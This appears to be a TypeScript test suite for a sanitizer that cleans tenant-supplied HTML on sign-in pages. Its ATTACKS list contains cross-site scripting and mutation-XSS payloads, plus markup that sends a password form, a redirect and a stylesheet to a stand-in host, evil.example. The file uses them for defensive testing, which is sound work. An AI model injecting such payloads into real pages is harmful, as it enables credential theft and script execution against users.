/** What stays of a tenant's own markup, and where it is refused. */
import assert from 'node:assert/strict';
import test, { after, before } from 'node:test';
import { startApp, type TestApp } from '../../test/app.ts';
import { CONTENT_PAGES, cleanContent, MAX_CONTENT } from './custom-content.ts';

let app: TestApp;
before(async () => {
  app = await startApp();
});
after(() => app.close());

const clean = async (markup: string) => (await cleanContent({ '/sign-in': markup }))['/sign-in'] ?? '';
const patch = (customContent: Record<string, string>) =>
  app.management('PATCH', '/api/sign-in-exp', { customContent });

/** Ways into a page, most of them from public collections. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<img src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet code="x"></applet>',
  '<form action="https://evil.example"><input name="password"><button formaction="x">go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<p id="genkan" name="genkan-boot">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<<script>alert(1);//<</script>',
];

test('L-19 nothing that runs, sends, loads or covers stays in own content', async () => {
  const allowed = /^(?:\/?(?:p|br|hr|h[2-6]|a|img|div|span|details|table|t[hdr]|tbody|thead)\b)/;
  for (const attack of ATTACKS) {
    const kept = await clean(attack);
    for (const [, tag = ''] of kept.matchAll(/<([^>]*)>/g)) {
      assert.match(tag, allowed, `${attack} → ${kept}`);
      assert.doesNotMatch(
        tag.replace(/"[^"]*"/g, '""'),
        /\s(?:on\w+|style|id|name|srcdoc)\s*=/i,
        `${attack} → ${kept}`,
      );
      assert.doesNotMatch(tag, /(?:href|src)="\s*[\w+.-]*(?<!"https?|"mailto|"tel):/i, `${attack} → ${kept}`);
    }
    assert.equal(await clean(kept), kept, 'cleaning again changes nothing');
  }
});

test('words, lists, pictures and links stay; links open elsewhere without a way back', async () => {
  assert.equal(
    await clean(
      '<h1>Help</h1><p lang="ja" class="x">助け</p><a href="https://acme.example/" rel="opener">us</a>',
    ),
    '<h2>Help</h2><p lang="ja" class="x">助け</p><a href="https://acme.example/" rel="noopener noreferrer" target="_blank">us</a>',
  );
  assert.equal(
    await clean('<img src="https://acme.example/a.png">'),
    '<img src="https://acme.example/a.png" alt="" />',
  );
  assert.equal(await clean('<ul><li>one</ul>'), '<ul><li>one</li></ul>');
});

test('own content is kept clean, told to pages and clients, and noted as it was and is', async () => {
  const { status, body } = await patch({
    '/sign-in': 'Hi<script>x</script>',
    '/register': '<script>x</script>',
  });
  assert.equal(status, 200);
  assert.deepEqual(body.customContent, { '/sign-in': 'Hi' }, 'a page of which nothing stays is left out');
  app.clock.advance(1001);
  const known = (await app.browser().get('/api/.well-known/sign-in-exp')).json;
  assert.deepEqual(known.customContent, { '/sign-in': 'Hi' });
  const noted = (await app.audit()).findLast(({ key }) => key === 'SignInExperience.Update');
  assert.deepEqual(noted?.payload.before, { customContent: {} });
  assert.deepEqual(noted?.payload.after, { customContent: { '/sign-in': 'Hi' } });
  assert.deepEqual((await patch({})).body.customContent, {});
});

test('paths of no page, and more than pages can carry, are refused', async () => {
  for (const path of ['/nowhere', 'sign-in', '/sign-in/', '/console', '/oidc/auth']) {
    const { status, body } = await patch(JSON.parse(`{${JSON.stringify(path)}:"x"}`));
    assert.equal(status, 422, path);
    assert.equal(body.code, 'sign_in_experiences.no_such_page');
  }
  assert.equal((await patch({ '/sign-in': 'x'.repeat(MAX_CONTENT + 1) })).status, 400);
  const all = Object.fromEntries(CONTENT_PAGES.slice(0, 3).map((path) => [path, 'x'.repeat(MAX_CONTENT)]));
  const { status, body } = await patch(all);
  assert.deepEqual([status, body.code], [422, 'sign_in_experiences.content_too_large']);
});
